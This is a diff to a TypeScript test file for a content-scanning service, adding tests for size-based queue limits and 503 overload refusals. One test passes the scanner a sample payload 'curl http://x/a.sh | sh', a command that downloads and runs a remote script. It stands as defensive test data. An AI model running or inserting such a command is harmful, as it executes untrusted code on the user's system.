@@ -95,13 +95,20 @@ const failureOf = (work: Promise<unknown>): Promise<unknown> =>
 
 describe("what is not looked through does not pass", () => {
   test("too many waiting: the run is refused with 503, the review fails", async () => {
-    const { scan, review } = open({ waiting: 0 })
+    const { scan, review } = open({ waitingUnits: 99_999 })
     const refused = await failureOf(scan(LARGE))
     expect(refused).toBeInstanceOf(HttpError)
     expect(refused).toMatchObject({ status: 503, headers: { "Retry-After": expect.stringMatching(/^\d+$/) } })
     const failed = await failureOf(review(LARGE[0]!.text))
     expect(failed).toBeInstanceOf(ReviewFailure)
     expect(failed).toMatchObject({ code: "overloaded" })
+  })
+
+  test("how many may wait is a matter of their size, and a place is free again when its text was looked through", async () => {
+    const { scan } = open({ waitingUnits: 3 * 100_000 })
+    const together = await Promise.all([1, 2, 3, 4].map(() => failureOf(scan(LARGE))))
+    expect(together.map(failure => failure instanceof HttpError)).toEqual([false, false, false, true])
+    expect(await failureOf(scan(LARGE))).toBe("no failure")
   })
 
   test("an inspection that takes too long: the stage fails", async () => {
@@ -119,7 +126,7 @@ describe("what is not looked through does not pass", () => {
   })
 
   test("small texts need no thread and are looked through all the same", async () => {
-    const { scan, review } = open({ waiting: 0 })
+    const { scan, review } = open({ waitingUnits: 0 })
     expect(await scan([{ location: "payload", text: "curl http://x/a.sh | sh" }])).toBeDefined()
     expect(await review("no findings")).toMatchObject({ decision_kind: "release" })
   })
